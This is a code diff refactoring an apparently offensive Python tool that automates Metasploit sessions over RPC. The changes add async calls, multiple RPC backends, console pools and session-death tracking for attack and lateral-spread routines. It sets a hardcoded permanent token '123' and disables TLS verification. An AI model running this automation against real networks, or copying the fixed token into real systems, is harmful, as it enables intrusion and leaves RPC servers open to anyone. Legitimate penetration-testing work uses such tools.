+                sess_data[sess_num][b'errors'].append(err_msg)
+                return (full_output, err_msg)
 
-                # Error from meterpreter console
-                if err:
-                    sess_data[sess_num][b'errors'].append(err)
-                    print_bad('Meterpreter error: {}'.format(err), 'Session', sess_num)
-                    break
+            # Successfully completed MSF API call
+            elif res[b'result'] == b'success':
 
-                # Check for errors from cmd's output
-                err = get_output_errors(full_output, cmd)
-                if err:
-                    error_printing(sess_num, sess_data, err, cmd)
-                    break
+                start_time = time.time()
+                matcher = OutputMatcher(end_strs)
 
-                # If no terminating string specified just wait til timeout
-                counter += sleep_secs
-                if counter > timeout:
-                    err = 'Command [{}] timed out'.format(cmd.strip())
-                    error_printing(sess_num, sess_data, err, cmd)
-                    break
+                try:
+                    while True:
+                        output, err = await sess_output.get(args.poll_max)
+                        if output:
+                            full_output.append(output)
+
+                        # Error from meterpreter console
+                        if err:
+                            sess_data[sess_num][b'errors'].append(err)
+                            print_bad('Meterpreter error: {}'.format(err), 'Session', sess_num)
+                            break
+
+                        result = matcher.feed(output)
+                        if not result and time.time() - start_time > timeout:
+                            result = matcher.timeout()
+
+                        # Check for errors from cmd's output
+                        if result and result.status == OutputMatcher.ERROR:
+                            err = format_output_error(full_output, cmd)
+                            error_printing(sess_num, sess_data, err, cmd)
+                            break
+
+                        # Successfully completed
+                        if result and result.status == OutputMatcher.COMPLETED:
+                            # Without end_strs this is only the time to the first output
+                            if end_strs:
+                                timeout_profiles.record(kind, time.time() - start_time)
+                            break
+
+                        if result and result.status == OutputMatcher.TIMEOUT:
+                            if end_strs:
+                                timeout_profiles.record_timeout(kind, time.time() - start_time)
+                            err = timeout_error(cmd)
+                            error_printing(sess_num, sess_data, err, cmd)
+                            break
+
+                # This usually occurs when the session suddenly dies or user quits it
+                except Exception as e:
+                    # Get the last of the data to clear the buffer
+                    await clear_session_output(client, sess_num, sess_data)
+                    err = 'exception below likely due to abrupt death of session'
+                    print_bad(error_msg.format(sess_num_str, err), 'Session', sess_num)
+                    print_bad('    '+str(e), None, None)
+                    sess_data[sess_num][b'errors'].append(err)
+                    debug_info(full_output, 'Session', sess_num)
+                    return (full_output, err)
 
-                # Successfully completed - this section can probably be cleaned up
-                if end_strs:
-                    if any(end_strs in output for end_strs in end_strs):
-                        break
+            # b'result' not in res, b'error_message' not in res, just catch everything else as an error
+            else:
+                err = res[b'result'].decode('utf8')
+                sess_data[sess_num][b'errors'].append(err)
+                print_bad(res[b'result'].decode('utf8'), 'Session', sess_num)
 
-                # If no end_strs specified just return once we have any data or until timeout
-                else:
-                    if len(full_output) > 0:
-                        break
+        finally:
+            sess_output.unsubscribe()
 
-        # This usually occurs when the session suddenly dies or user quits it
-        except Exception as e:
-            # Get the last of the data to clear the buffer
-            clear_buffer = client.call('session.meterpreter_read', [sess_num_str])
-            err = 'exception below likely due to abrupt death of session'
-            print_bad(error_msg.format(sess_num_str, err), 'Session', sess_num)
-            print_bad('    '+str(e), None, None)
-            sess_data[sess_num][b'errors'].append(err)
-            debug_info(full_output, 'Session', sess_num)
-            return (full_output, err)
-
-    # b'result' not in res, b'error_message' not in res, just catch everything else as an error
-    else:
-        err = res[b'result'].decode('utf8')
-        sess_data[sess_num][b'errors'].append(err)
-        print_bad(res[b'result'].decode('utf8'), 'Session', sess_num)
+        # Get the last of the data to clear the buffer
+        await clear_session_output(client, sess_num, sess_data)
 
-    # Get the last of the data to clear the buffer
-    clear_buffer = client.call('session.meterpreter_read', [sess_num_str])
+        debug_info(full_output, 'Session', sess_num)
 
-    debug_info(full_output, 'Session', sess_num)
+        return (full_output, err)
 
-    return (full_output, err)
+def is_local_host(host):
+    if host in ('localhost', '::1') or host.startswith('127.'):
+        return True
+    return host == get_local_ip(get_iface())
 
-def get_perm_token(client):
+def parse_rpc_endpoints():
+    '''
+    --rpc entries as dicts. Payloads call back to LHOST on the msfrpcd
+    that launched them, and host files only exist on our own filesystem
+    '''
+    endpoints = []
+    for rpc in args.rpc:
+        for endpoint in rpc.split(','):
+            if not endpoint:
+                continue
+            address, _, lhost = endpoint.partition('@')
+            rpc_host, rpc_port = address.rsplit(':', 1)
+            local = is_local_host(rpc_host)
+            if not lhost:
+                lhost = get_local_ip(get_iface()) if local else rpc_host
+            endpoints.append({'host': rpc_host,
+                              'port': rpc_port,
+                              'lhost': lhost,
+                              'local': local})
+    return endpoints
+
+# Set up by main() from the --rpc arg, in the same order as the client's backends
+rpc_backends = []
+
+def backend_for(client, gid):
+    ''' The rpc_backends entry owning a session, console or job ID '''
+    if getattr(client, 'backend_count', 1) == 1:
+        return rpc_backends[0]
+    return rpc_backends[client.to_local(gid)[0]]
+
+def create_client():
+    clients = []
+    for backend in rpc_backends:
+        clients.append(AsyncMsfrpc({'host': backend['host'],
+                                    'port': backend['port'],
+                                    # msfrpcd's SSL cert is self-signed
+                                    'verify': False,
+                                    'max_in_flight': args.max_in_flight,
+                                    'cache_ttl': args.rpc_cache_ttl}))
+
+    if len(clients) == 1:
+        return clients[0]
+    return ShardedMsfrpc(clients)
+
+async def get_perm_token(client):
     # Authenticate and grab a permanent token
     try:
-        client.login(args.username, args.password)
-    except msfrpc.MsfAuthError:
+        await client.login(args.username, args.password)
+    except MsfAuthError:
         print_bad('Authentication to the MSF RPC server failed, are you sure you have the right password?', None, None)
-    client.call('auth.token_add', ['123'])
+    await client.call('auth.token_add', ['123'])
     client.token = '123'
     return client
 
+SESSION_DEAD_ERRORS = ['abrupt death of session', 'unknown session id']
+
+def is_session_dead_error(err):
+    return any(m in err.lower() for m in SESSION_DEAD_ERRORS)
+
 def is_session_broken(lock, sess_num, sess_data):
     if b'errors' in sess_data[sess_num]:
 
@@ -1482,10 +2980,9 @@ def is_session_broken(lock, sess_num, sess_data):
             return True
 
         # Session abruptly died
-        msgs = ['abrupt death of session', 'unknown session id']
-        #with await lock:
+        #async with lock:
         for err in sess_data[sess_num][b'errors']:
-            if len([m for m in msgs if m in err.lower()]) > 0:
+            if is_session_dead_error(err):
                 return True
 
         # Session timed out
@@ -1501,7 +2998,7 @@ async def add_session_keys(msf_sess, sess_data, msf_sess_num):
 
     return session
 
-async def get_sessions(lock, client, domain_data, sess_data):
+async def get_sessions(lock, client, consoles, domain_data, sess_data):
     print_waiting = True
     sleep_secs = 2
 
@@ -1513,7 +3010,11 @@ async def get_sessions(lock, client, domain_data, sess_data):
 
     while True:
         # Get list of MSF sessions from RPC server
-        msf_sessions = client.call('session.list')
+        msf_sessions = await client.call('session.list')
+        if b'error' in msf_sessions:
+            print_bad('Failed to list sessions: {}'.format(msf_sessions.get(b'error_message')), None, None)
+            await asyncio.sleep(1)
+            continue
 
         for msf_sess_num in msf_sessions:
             # Do stuff with session
@@ -1524,15 +3025,31 @@ async def get_sessions(lock, client, domain_data, sess_data):
                 # Attack!
                 asyncio.ensure_future(attack_with_session(lock,
                                                           client,
+                                                          consoles,
                                                           msf_sess_num,
                                                           sess_data,
                                                           domain_data))
 
+            # Missed from an earlier list, it's still alive
+            elif b'gone' in sess_data[msf_sess_num]:
+                del sess_data[msf_sess_num][b'gone']
+                print_info('Session is back', 'Session', msf_sess_num)
+                queue_work(domain_data, WORK_SESSION, msf_sess_num)
+
+        # Sessions that have gone from the list died, spread() may want their host back.
+        # A backend that failed to answer leaves its sessions out without them dying
+        if not getattr(msf_sessions, 'failed', None):
+            for sess_num in list(sess_data):
+                if sess_num not in msf_sessions and b'gone' not in sess_data[sess_num]:
+                    sess_data[sess_num][b'gone'] = True
+                    print_bad('Session is gone', 'Session', sess_num)
+                    queue_work(domain_data, WORK_SESSION, sess_num)
+
         busy_sess = False
-        with await lock:
+        async with lock:
             for n in sess_data:
-                if b'busy' in sess_data[n]:
-                    if sess_data[n][b'busy'] == b'True':
+                if b'scheduler' in sess_data[n]:
+                    if sess_data[n][b'scheduler'].busy:
                         busy_sess = True
                         print_waiting = True
                         break
@@ -1599,19 +3116,21 @@ def parse_hosts(domain_data):
 
     domain_data['hosts'] = hosts
 
-async def attack_with_session(lock, client, sess_num, sess_data, domain_data):
+async def attack_with_session(lock, client, consoles, sess_num, sess_data, domain_data):
 
     task = await sess_first_check(lock, client, sess_num, sess_data, domain_data)
     if task:
         await asyncio.wait(task)
 
     if is_session_broken(lock, sess_num, sess_data) == False:
-        await attack(lock, client, sess_num, sess_data, domain_data)
+        await attack(lock, client, consoles, sess_num, sess_data, domain_data)
 
 def main():
+    global timeout_profiles, module_jobs, host_files, spread_workers, rpc_backends
 
     lock = asyncio.Lock()
-    client = Msfrpc({})
+    rpc_backends = parse_rpc_endpoints()
+    client = create_client()
     sess_data = {}
     # domain_data = {'domain':[domain_admins]}
     domain_data = {'domains':{},
@@ -1619,36 +3138,56 @@ def main():
                    'high_priority_ips':[],
                    'pending_shell_ips':[],
                    'creds':[],
-                   'checked_creds':{},
-                   'hosts':[]}
+                   'attempts':AttemptMatrix(),
+                   'hosts':[],
+                   'work_queue':asyncio.Queue()}
 
     if args.hostlist or args.xml:
         parse_hosts(domain_data)
 
+    timeout_profiles = TimeoutProfiles(args.timeout_floor, args.timeout_ceiling, args.timeout_profile)
+
+    loop = asyncio.get_event_loop()
+
     try:
-        client = get_perm_token(client)
+        client = loop.run_until_complete(get_perm_token(client))
     except:
         print_bad('Failed to connect to MSF RPC server,'
                   ' are you sure metasploit is running and you have the right password?',
                   None, None)
         sys.exit()
 
-    c_ids = get_console_ids(client)
-    lhost = get_local_ip(get_iface())
+    # Console pool limits are per msfrpcd backend
+    backends = getattr(client, 'backend_count', 1)
+    c_ids = loop.run_until_complete(get_console_ids(client, args.consoles_min * backends))
+    consoles = ConsolePool(client,
+                           c_ids,
+                           min_size=args.consoles_min * backends,
+                           max_size=args.consoles_max * backends,
+                           idle_timeout=args.console_idle)
+    consoles.start()
+    module_jobs = ModuleJobs(client, args.max_jobs * backends)
+    module_jobs.start()
+    host_files = HostFiles(args.work_dir)
+    spread_workers = WorkerPool(args.max_workers * backends, args.max_per_target)
 
-    loop = asyncio.get_event_loop()
     loop.add_signal_handler(signal.SIGINT, kill_tasks)
+    asyncio.ensure_future(read_session_output(client, sess_data))
+    loop.add_signal_handler(signal.SIGUSR1, dump_rpc_stats, client, consoles)
+
+    if args.rpc_stats_interval:
+        asyncio.ensure_future(dump_rpc_stats_periodically(client, consoles, args.rpc_stats_interval))
 
     fut_get_sessions = asyncio.ensure_future(get_sessions(lock,
                                                             client,
+                                                            consoles,
                                                             domain_data,
                                                             sess_data))
 
 
     fut_spread = asyncio.ensure_future(spread(lock,
                                               client,
-                                              c_ids,
-                                              lhost,
+                                              consoles,
                                               sess_data,
                                               domain_data))
 
@@ -1657,6 +3196,11 @@ def main():
     except asyncio.CancelledError:
         print_info('Tasks gracefully smited.', None, None)
     finally:
+        if args.rpc_stats:
+            dump_rpc_stats(client, consoles)
+        timeout_profiles.save()
+        host_files.cleanup()
+        client.close()
         loop.close()
 
 if __name__ == "__main__":